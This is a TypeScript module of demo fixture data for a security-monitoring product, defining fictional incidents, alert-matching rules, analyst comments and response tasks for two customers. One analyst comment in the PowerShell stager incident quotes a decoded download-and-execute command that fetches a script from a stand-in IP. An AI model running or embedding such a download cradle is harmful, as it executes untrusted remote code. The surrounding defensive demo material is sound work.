/** The incidents the demo analysts open in each customer's story, and how an alert is matched to one. */
import type { Alert } from '@vigil/contract';
import { THREATS, type DemoCustomer } from './scenario';

/** What an alert is about, for triage decisions: its rule id or indicator value, and its observables. */
export function facts(alert: Alert): { rule: number | null; indicator: string | null; values: string[] } {
  const detection = alert.detection;
  const rule = detection.type === 'rule' && typeof detection.ruleId === 'string' ? Number(detection.ruleId) : null;
  const indicator = detection.type === 'indicator' && typeof detection.value === 'string' ? detection.value : null;
  return { rule, indicator, values: [indicator ?? '', ...alert.observables.map((o) => o.value)] };
}

export interface IncidentPlan {
  title: string;
  description: string;
  severity: 'critical' | 'high' | 'medium';
  matches: (alert: Alert) => boolean;
  /** Where the investigation stands at the end of the demo. */
  outcome: 'investigating' | 'resolved' | 'open';
  comments: string[];
  tasks: { title: string; status: 'todo' | 'in_progress' | 'done'; dueInHours?: number }[];
}

export function incidentPlans(customer: DemoCustomer, files: (name: string) => string): IncidentPlan[] {
  const touches = (needles: string[], rules: number[]) => (alert: Alert) => {
    const f = facts(alert);
    return (f.rule !== null && rules.includes(f.rule)) || f.values.some((v) => needles.includes(v.toLowerCase()));
  };
  if (customer.key === 'northwind') {
    return [
      {
        title: 'Fake invoice macro: loader beaconing from NW-WS-017',
        description:
          "j.miller opened **Invoice_INV-88231.doc** from a lookalike sender (`northwlnd-logistics.com`). Word dropped `msoffsync.dll`, started it with rundll32 and the loader beacons to `cdn-telemetry-sync.net` (203.0.113.45). The next day j.miller's account logged on to NW-SRV-FS01, where mimikatz.exe appeared.",
        severity: 'critical',
        matches: touches(
          [
            THREATS.c2Ip,
            THREATS.c2Domain,
            customer.lookalike,
            'mimikatz.exe',
            files('Invoice_INV-88231.doc'),
            files('msoffsync.dll'),
            files('mimikatz.exe'),
          ],
          [2049108],
        ),
        outcome: 'investigating',
        comments: [
          'Confirmed with James by phone: he opened the attachment and clicked **Enable Content** at 09:17.',
          'Sandbox run of `msoffsync.dll`: TLS beacon every ~10 min to `cdn-telemetry-sync.net`, persistence through `HKCU\\…\\Run\\MsOffSync`.\n\n- [x] host isolated\n- [ ] memory image collected',
        ],
        tasks: [
          { title: 'Isolate NW-WS-017 from the network', status: 'done' },
          { title: 'Reset the password of j.miller and end his sessions', status: 'done' },
          {
            title: 'Block 203.0.113.45 and cdn-telemetry-sync.net at the firewall and proxy',
            status: 'in_progress',
            dueInHours: 4,
          },
          {
            title: 'Check NW-SRV-FS01 for credential dumping (mimikatz.exe was written there)',
            status: 'todo',
            dueInHours: 24,
          },
        ],
      },
      {
        title: 'PowerShell stager on NW-WS-023 reached a Cobalt Strike team server',
        description:
          'An encoded PowerShell command on NW-WS-023 downloaded `upd.ps1` from 198.51.100.23 and the host then polled 203.0.113.66, a known team server.',
        severity: 'critical',
        matches: touches(
          [THREATS.stagerIp, THREATS.stagerUrl, THREATS.teamServerIp, files('upd.ps1')],
          [2049112, 2016683],
        ),
        outcome: 'resolved',
        comments: [
          "Decoded the `-Enc` argument: `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/content/upd.ps1')`.",
          'Host re-imaged, no lateral movement found in the logon events. Closing as **true positive**.',
        ],
        tasks: [
          { title: 'Re-image NW-WS-023', status: 'done' },
          { title: 'Search other hosts for connections to 203.0.113.66', status: 'done' },
        ],
      },
      {
        title: 'Parcel phishing link opened from NW-WS-040',
        description:
          'A "DHL Express" message with a script in its HTML led to `sec-verify-portal.top`; the page was opened.',
        severity: 'medium',
        matches: touches([THREATS.phishDomain], []),
        outcome: 'open',
        comments: [],
        tasks: [{ title: 'Ask m.costa whether credentials were entered on the page', status: 'todo', dueInHours: 8 }],
      },
    ];
  }
  return [
    {
      title: 'Information stealer from fake lab results on AC-LAB-02',
      description:
        "A message from the lookalike `aurora-cllnic.org` carried **Lab_Results_2291.pdf.exe**. o.ivanova ran it on AC-LAB-02; it checks in to 198.51.100.77 and read the browser's saved logins.",
      severity: 'critical',
      matches: touches(
        [THREATS.payloadIp, THREATS.payloadDomain, customer.lookalike, files('Lab_Results_2291.pdf.exe')],
        [2049151, 2049140],
      ),
      outcome: 'investigating',
      comments: [
        'Browser credentials on AC-LAB-02 must be treated as stolen. Listing the accounts saved in Chrome.',
        'Daniel Reyes reported the message at 10:50 (forwarded to IT); d.reyes did **not** open the attachment.',
      ],
      tasks: [
        { title: 'Disconnect AC-LAB-02 and collect a memory image', status: 'done' },
        { title: 'Reset every password saved in Chrome on AC-LAB-02', status: 'in_progress', dueInHours: 6 },
        {
          title: 'Block aurora-cllnic.org and labresults-share.xyz on the mail gateway',
          status: 'todo',
          dueInHours: 12,
        },
      ],
    },
    {
      title: 'RDP password guessing on AC-RDS-01 followed by a team-server beacon',
      description:
        '24 failed logons from 192.0.2.77 within eight minutes, then `svc_backup` logged on over RDP and PowerShell contacted 203.0.113.66.',
      severity: 'critical',
      matches: touches([THREATS.teamServerIp], [2016683]),
      outcome: 'resolved',
      comments: [
        '`svc_backup` had a weak password and RDP allowed from the internet. Both fixed.',
        'Server rebuilt from the last clean backup; no data left the network according to the flow records.',
      ],
      tasks: [
        { title: 'Close RDP to the internet on the perimeter firewall', status: 'done' },
        { title: 'Rotate the svc_backup password and limit its logon rights', status: 'done' },
      ],
    },
  ];
}
